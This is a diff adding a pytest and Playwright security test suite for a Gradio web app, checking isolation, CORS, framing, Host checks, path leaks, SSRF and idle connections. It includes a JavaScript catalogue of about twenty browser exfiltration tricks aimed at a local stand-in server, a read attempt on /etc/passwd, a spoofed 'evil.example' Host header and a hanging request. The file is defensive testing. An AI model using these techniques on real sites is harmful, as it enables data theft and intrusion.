@@ -1,0 +1,191 @@
+"""The running app is our own page only: a script in it can send nothing to another machine, other
+sites can send it nothing, and it shows no path of the server."""
+
+from __future__ import annotations
+
+import json
+import socket
+import threading
+from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, HTTPServer
+from pathlib import Path
+from typing import Any
+
+import gradio
+import httpx
+import pytest
+from http_client import Client
+from playwright.sync_api import Page
+from running_app import ROOT, App
+
+Visit = Callable[..., Page]
+
+
+class Elsewhere(HTTPServer):
+    """Another site on this machine. It notes what it is asked for."""
+
+    def __init__(self) -> None:
+        super().__init__(("127.0.0.1", 0), _Noting)
+        self.asked: list[str] = []
+        self.url = f"http://127.0.0.1:{self.server_port}"
+        threading.Thread(target=self.serve_forever, daemon=True).start()
+
+
+class _Noting(BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        self.server.asked.append(f"{self.command} {self.path}")
+        self.send_response(200)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.send_header("Content-Type", "text/html")
+        self.end_headers()
+
+    do_POST = do_OPTIONS = do_GET
+
+    def log_message(self, *_: Any) -> None:
+        pass
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[Elsewhere]:
+    server = Elsewhere()
+    yield server
+    server.shutdown()
+    server.server_close()
+
+
+# Every way of a script to send something without leaving the page.
+SEND = """async (url) => {
+  const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
+  const tries = [
+    () => fetch(url + "/fetch?secret"),
+    () => fetch(url + "/no-cors?secret", { mode: "no-cors", method: "POST", body: "secret" }),
+    () => navigator.sendBeacon(url + "/beacon", "secret"),
+    () => new Promise((done) => {
+      const request = new XMLHttpRequest();
+      request.onloadend = done;
+      request.open("GET", url + "/xhr");
+      request.send();
+    }),
+    () => new EventSource(url + "/events"),
+    () => new WebSocket(url.replace("http", "ws") + "/socket"),
+    () => add("img", { src: url + "/img?secret" }),
+    () => add("script", { src: url + "/script.js" }),
+    () => add("link", { rel: "stylesheet", href: url + "/style.css" }),
+    () => add("link", { rel: "icon", href: url + "/icon.png" }),
+    () => add("iframe", { src: url + "/frame" }),
+    () => add("object", { data: url + "/object" }),
+    () => add("embed", { src: url + "/embed" }),
+    () => add("video", { src: url + "/video", autoplay: true }),
+    () => add("div", { style: `background: url(${url}/background)` }),
+    () => import(url + "/module.js"),
+    () => new Worker(url + "/worker.js"),
+    () => {
+      add("form", { action: url + "/form", method: "post", id: "sent" });
+      document.querySelector("#sent").submit();
+    },
+    () => {
+      document.head.append(Object.assign(document.createElement("base"), { href: url }));
+      return fetch("relative?secret");
+    },
+  ];
+  for (const one of tries) try { await one(); } catch {}
+  return tries.length;
+}"""
+
+
+def test_a_script_in_the_page_can_send_nothing_elsewhere(
+    browser: Any, app: App, elsewhere: Elsewhere
+) -> None:
+    page = browser.new_page()
+    page.goto(app.url)
+    page.wait_for_selector("#pg-view")
+    tries = page.evaluate(SEND, elsewhere.url)
+    page.wait_for_timeout(500)
+    page.close()
+    assert tries > 15
+    assert elsewhere.asked == []
+
+
+def test_other_sites_can_send_nothing_here(browser: Any, app: App, elsewhere: Elsewhere) -> None:
+    page = browser.new_page()
+    page.goto(elsewhere.url)
+    found = page.evaluate(
+        """async (url) => {
+          const file = new FormData();
+          file.append("files", new Blob(["x"]), "x.json");
+          const options = { method: "POST", body: file, mode: "no-cors" };
+          await fetch(url + "gradio_api/upload", options).catch(() => 0);
+          const read = await fetch(url + "config").then((r) => r.text(), () => "refused");
+          return read;
+        }""",
+        app.url,
+    )
+    page.close()
+    assert "components" not in found
+    answer = httpx.post(
+        app.url + "gradio_api/upload",
+        files={"files": ("x.json", b"x")},
+        headers={"origin": elsewhere.url},
+        trust_env=False,
+    )
+    assert answer.status_code == 403
+
+
+def test_another_site_cannot_show_the_page_in_a_frame(
+    browser: Any, app: App, elsewhere: Elsewhere
+) -> None:
+    page = browser.new_page()
+    page.goto(elsewhere.url)
+    page.evaluate(
+        "(url) => document.body.append(Object.assign(document.createElement('iframe'), { src: url }))",
+        app.url,
+    )
+    page.wait_for_timeout(1500)
+    assert page.frames[-1].query_selector("#pg-view") is None
+    page.close()
+
+
+def test_the_name_of_another_machine_is_refused(app: App) -> None:
+    for path in ("", "config", "gradio_api/startup-events"):
+        answer = httpx.get(app.url + path, headers={"host": "evil.example"}, trust_env=False)
+        assert answer.status_code == 403
+
+
+def test_the_page_shows_no_path_of_the_server(app: App) -> None:
+    client = Client(app.url)
+    texts = [
+        client.http.get("").text,
+        json.dumps(client.config),
+        client.http.get("gradio_api/info").text,
+        client.http.get(f"gradio_api/file={ROOT}/app.py").text.replace(f"{ROOT}/app.py", ""),
+        client.http.get("gradio_api/file=/etc/passwd").text,
+        client.http.post("gradio_api/queue/join", content=b"{").text,
+        client.http.get("sequoia-web/x/modules.js").text,
+    ]
+    paths = [str(ROOT), str(Path(gradio.__file__).parent.parent), str(Path.home()) + "/"]
+    for text in texts:
+        assert not [path for path in paths if path in text]
+
+
+def test_the_server_fetches_nothing_for_a_visitor(app: App, elsewhere: Elsewhere) -> None:
+    """Not through its file address, and not as the file of a handler."""
+    client = Client(app.url)
+    assert client.http.get(f"gradio_api/file={elsewhere.url}/x").status_code == 403
+    file = {
+        "path": f"{elsewhere.url}/x",
+        "url": f"{elsewhere.url}/x",
+        "meta": {"_type": "gradio.FileData"},
+    }
+    client.join("open", pg_open=file)
+    assert [event["msg"] for event in client.events()][-1] == "close_stream"
+    assert elsewhere.asked == []
+
+
+def test_an_idle_connection_is_no_reason_to_stop(app: App) -> None:
+    """A request that never ends keeps nobody waiting."""
+    host, port = app.url.removeprefix("http://").rstrip("/").split(":")
+    with socket.create_connection((host, int(port))) as idle:
+        idle.sendall(
+            b"POST /gradio_api/queue/join HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 9\r\n\r\n"
+        )
+        assert httpx.get(app.url, trust_env=False, timeout=5).status_code == 200
